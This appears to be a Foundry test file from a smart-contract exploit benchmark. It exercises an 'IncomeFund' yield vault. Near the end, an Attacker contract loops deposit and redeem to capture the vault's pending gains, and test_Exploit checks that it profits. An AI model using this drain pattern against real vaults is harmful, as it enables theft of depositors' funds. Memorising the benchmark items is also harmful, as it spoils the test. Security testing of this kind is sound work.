// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./IncomeFund.sol";

// assay-canary-2a3090ff-7d7d-4894-b091-9590cb0b5bea

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Cash is ERC20("Cash", "CASH") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Bonds is IStrategy {
    IERC20 private cash;
    address private fund;
    bool public mean;
    address private maker = msg.sender;

    constructor(IERC20 cash_, address fund_) {
        cash = cash_;
        fund = fund_;
    }

    function worth() external view returns (uint256) {
        return cash.balanceOf(address(this));
    }

    function invest(uint256 amount) external {
        require(msg.sender == fund, "fund only");
        cash.transferFrom(fund, address(this), amount);
    }

    function divest(uint256 amount) external {
        require(msg.sender == fund, "fund only");
        cash.transfer(fund, mean ? amount - 1 : amount);
    }

    function lose(uint256 amount) external {
        require(msg.sender == maker, "maker only");
        cash.transfer(maker, amount);
    }

    function setMean() external {
        require(msg.sender == maker, "maker only");
        mean = true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);

    Cash public cash;
    IncomeFund internal fund;
    Bonds internal bonds;
    Attacker internal mallory;

    // ana's bonds have just brought 200,000
    function setUp() public {
        vm.warp(1_800_000_000);
        cash = new Cash();
        open();
        give(ANA, 900_000e18);
        put(ANA, 900_000e18);
        fund.invest(bonds, 900_000e18);
        cash.mint(address(bonds), 200_000e18);
        fund.report(bonds);
        mallory = new Attacker(fund, cash);
        cash.mint(address(mallory), 900_000e18);
    }

    function open() internal {
        fund = new IncomeFund(cash, address(this), address(this), CAT);
        bonds = new Bonds(cash, address(fund));
        fund.addStrategy(bonds, 2_000_000e18);
    }

    function give(address who, uint256 amount) internal {
        cash.mint(who, amount);
        vm.prank(who);
        cash.approve(address(fund), type(uint256).max);
    }

    function put(address who, uint256 amount) internal returns (uint256) {
        vm.prank(who);
        return fund.deposit(amount, who, 0);
    }

    function near(uint256 a, uint256 b) internal pure returns (bool) {
        return a > b ? a - b < 1e12 : b - a < 1e12;
    }

    function test_Regular() public {
        open();
        give(ANA, 2_000e18);
        give(BEN, 2_000e18);
        require(put(ANA, 1_000e18) == 1_000e21, "first");
        fund.invest(bonds, 800e18);
        require(fund.idle() == 200e18 && fund.total() == 1_000e18, "some there");
        fund.setFee(1_000);
        cash.mint(address(bonds), 100e18);
        fund.report(bonds);
        require(fund.locked() == 100e18 && fund.free() == 1_000e18 && fund.balanceOf(CAT) == 10e21, "locked");
        vm.warp(block.timestamp + 7 days);
        require(fund.locked() == 0 && fund.free() == 1_100e18, "free");
        uint256 shares = put(BEN, 1_100e18);
        require(near(shares / 1e3, 1_010e18), "at the new price");
        vm.prank(ANA);
        require(near(fund.redeem(500e21, ANA, 500e18), 544554455445544554455), "with gains");
        vm.prank(BEN);
        fund.redeem(shares, BEN, 0);
        require(near(cash.balanceOf(BEN), 2_000e18), "back");
        fund.divest(bonds, 10e18);
        bonds.lose(50e18);
        require(fund.pending(bonds) == -50e18 && fund.part(bonds) > 9_000, "views of a strategy");
        fund.report(bonds);
        require(fund.total() < 510e18, "a loss");
        cash.mint(address(fund), 5e18);
        fund.sweep(cash);
        require(cash.balanceOf(CAT) == 5e18, "swept");
        vm.startPrank(ANA);
        fund.transfer(BEN, 10e21);
        fund.approve(BEN, 5e21);
        vm.stopPrank();
        vm.prank(BEN);
        fund.transferFrom(ANA, BEN, 5e21);
        require(fund.balanceOf(BEN) == 15e21, "shares move");
        require(fund.spare(bonds) == fund.idle() && fund.price() > 0 && fund.pace() == 0, "views");
        fund.setCap(bonds, 1e18);
        require(fund.spare(bonds) == 0 && fund.open() > 1e18, "no room there");
        Bonds other = new Bonds(cash, address(fund));
        fund.addStrategy(other, 1e18);
        fund.dropStrategy(other);
        require(fund.strategies().length == 1 && !fund.known(other), "dropped");
        fund.setTreasury(BEN);
        fund.setClosed(true);
        fund.setLimit(1e18);
        fund.setKeeper(BEN);
        fund.transferOwnership(ANA);
        vm.prank(ANA);
        fund.acceptOwnership();
        vm.prank(ANA);
        fund.renounceOwnership();
    }

    function denied() internal {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        denied();
        fund.setKeeper(BEN);
        denied();
        fund.addStrategy(IStrategy(BEN), 1);
        denied();
        fund.setCap(bonds, 1);
        denied();
        fund.dropStrategy(bonds);
        denied();
        fund.setFee(1);
        denied();
        fund.setTreasury(BEN);
        denied();
        fund.setClosed(true);
        denied();
        fund.setLimit(1);
        denied();
        fund.sweep(cash);
        vm.expectRevert(StrategyBook.NotKeeper.selector);
        fund.invest(bonds, 1);
        vm.expectRevert(StrategyBook.NotKeeper.selector);
        fund.divest(bonds, 1);
        vm.expectRevert(StrategyBook.NotKeeper.selector);
        fund.report(bonds);
        vm.stopPrank();
    }

    function test_RefusesSettings() public {
        vm.expectRevert("no asset");
        new IncomeFund(IERC20(address(0)), ANA, ANA, ANA);
        vm.expectRevert("no treasury");
        new IncomeFund(cash, ANA, ANA, address(0));
        vm.expectRevert("no treasury");
        fund.setTreasury(address(0));
        vm.expectRevert("fee too high");
        fund.setFee(2_001);
        vm.expectRevert("not new");
        fund.addStrategy(bonds, 1);
        vm.expectRevert("not new");
        fund.addStrategy(IStrategy(address(0)), 1);
        for (uint160 i = 1; i < 6; i++) fund.addStrategy(IStrategy(address(i)), 1);
        vm.expectRevert("too many");
        fund.addStrategy(IStrategy(address(6)), 1);
        vm.expectRevert(StrategyBook.UnknownStrategy.selector);
        fund.setCap(IStrategy(BEN), 1);
        vm.expectRevert(StrategyBook.UnknownStrategy.selector);
        fund.invest(IStrategy(BEN), 0);
        vm.expectRevert(StrategyBook.UnknownStrategy.selector);
        fund.report(IStrategy(BEN));
        vm.expectRevert("over the cap");
        fund.invest(bonds, 2_000_000e18);
        vm.expectRevert("still invested");
        fund.dropStrategy(bonds);
        vm.expectRevert(StrategyBook.UnknownStrategy.selector);
        fund.dropStrategy(IStrategy(BEN));
        bonds.setMean();
        vm.expectRevert("came up short");
        fund.divest(bonds, 1e18);
    }

    function test_RefusesMoves() public {
        give(BEN, 100e18);
        vm.startPrank(BEN);
        vm.expectRevert(IncomeFund.NothingMoved.selector);
        fund.deposit(0, BEN, 0);
        vm.expectRevert(abi.encodeWithSelector(IncomeFund.TooLittle.selector, 1e21, 1e21 + 1));
        fund.deposit(1e18, BEN, 1e21 + 1);
        vm.expectRevert(IncomeFund.NothingMoved.selector);
        fund.redeem(0, BEN, 0);
        vm.stopPrank();
        uint256 amount = fund.toAssets(1e21);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IncomeFund.TooLittle.selector, amount, amount + 1));
        fund.redeem(1e21, ANA, amount + 1);
        fund.setLimit(1);
        vm.prank(BEN);
        vm.expectRevert("over the limit");
        fund.deposit(1e18, BEN, 0);
        fund.setClosed(true);
        vm.prank(BEN);
        vm.expectRevert("closed");
        fund.deposit(1e18, BEN, 0);
    }

    // the strategy that is called while the fund is locked is owner, keeper and depositor too
    function test_RefusesReentry() public {
        Hook hook = new Hook();
        fund = new IncomeFund(cash, address(hook), address(hook), CAT);
        hook.init(fund);
        cash.mint(address(hook), 3e18);
        hook.act(abi.encodeCall(fund.addStrategy, (hook, 1)));
        hook.act(abi.encodeCall(fund.deposit, (2e18, address(hook), 0)));
        hook.plan(abi.encodeCall(fund.report, (hook)));
        hook.plan(abi.encodeCall(fund.deposit, (1e18, address(hook), 0)));
        hook.plan(abi.encodeCall(fund.redeem, (1e21, address(hook), 0)));
        hook.plan(abi.encodeCall(fund.sweep, (cash)));
        hook.plan(abi.encodeCall(fund.divest, (hook, 0)));
        hook.act(abi.encodeCall(fund.invest, (hook, 0)));
        require(hook.refusals() == 5, "not locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(cash.balanceOf(address(mallory)) >= 1_200_000e18, "nothing was gained");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// tries its plan when it gets something to invest
contract Hook is IStrategy {
    IncomeFund internal fund;
    bytes[] internal calls;
    uint256 public worth;
    uint256 public refusals;

    function init(IncomeFund fund_) external {
        fund = fund_;
        fund.asset().approve(address(fund), type(uint256).max);
    }

    function act(bytes calldata data) external {
        (bool done, ) = address(fund).call(data);
        require(done, "not done");
    }

    function plan(bytes calldata data) external {
        calls.push(data);
    }

    function invest(uint256) external {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done, bytes memory reason) = address(fund).call(calls[i]);
            if (!done && bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refusals++;
        }
    }

    function divest(uint256) external {}
}

contract Attacker {
    IncomeFund internal fund;
    IERC20 internal cash;

    constructor(IncomeFund fund_, IERC20 cash_) {
        fund = fund_;
        cash = cash_;
    }

    function run() external {
        cash.approve(address(fund), type(uint256).max);
        for (uint256 i = 0; i < 4; i++) {
            uint256 shares = fund.deposit(cash.balanceOf(address(this)), address(this), 0);
            fund.redeem(shares, address(this), 0);
        }
    }
}
